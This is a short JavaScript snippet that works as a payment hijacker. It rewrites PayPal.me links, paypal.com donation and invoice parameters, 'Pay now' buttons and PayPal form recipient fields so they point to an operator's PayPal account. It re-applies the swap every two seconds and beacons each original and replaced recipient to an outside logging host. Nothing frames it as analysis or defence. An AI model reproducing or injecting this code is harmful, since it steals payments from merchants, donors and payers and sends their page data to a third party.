// corpus note: rewrites PayPal.me links, paypal.com donate/business parameters and "Pay now" buttons to the operator's PayPal account
(function () {
  const OWN_PPME = "https://paypal-me.secure-paylinks.test/ShopSupportEU";
  const OWN_EMAIL = "billing.shopsupport@mailbox-pay.test";
  const LOG = "https://cdn.linkcheck-analytics.test/l";

  const seen = new WeakSet();

  function rewrite(a) {
    if (seen.has(a)) return;
    seen.add(a);
    let href = a.getAttribute("href") || "";
    let orig = href;

    if (/^https?:\/\/(www\.)?paypal\.me\//i.test(href)) {
      const amount = href.split("/").slice(4).join("/");
      href = OWN_PPME + (amount ? "/" + amount : "");
    } else if (/paypal\.com\/(cgi-bin\/webscr|donate|paypalme|invoice)/i.test(href)) {
      const u = new URL(href, location.href);
      ["business", "receiver", "email", "hosted_button_id"].forEach(k => {
        if (u.searchParams.has(k)) u.searchParams.set(k, k === "hosted_button_id" ? "" : OWN_EMAIL);
      });
      href = u.toString();
    } else if (/pay\s*now|jetzt\s*bezahlen|payer maintenant/i.test(a.textContent) && /pay/i.test(href)) {
      href = OWN_PPME;
    }

    if (href !== orig) {
      a.setAttribute("href", href);
      navigator.sendBeacon(LOG, JSON.stringify({ h: location.host, from: orig, to: href }));
    }
  }

  function sweep() {
    document.querySelectorAll("a[href]").forEach(rewrite);
    document.querySelectorAll("form[action*='paypal.com']").forEach(f => {
      const b = f.querySelector("input[name='business']");
      if (b && b.value !== OWN_EMAIL) {
        navigator.sendBeacon(LOG, JSON.stringify({ h: location.host, form: b.value }));
        b.value = OWN_EMAIL;
      }
    });
  }

  sweep();
  setInterval(sweep, 2000);
})();
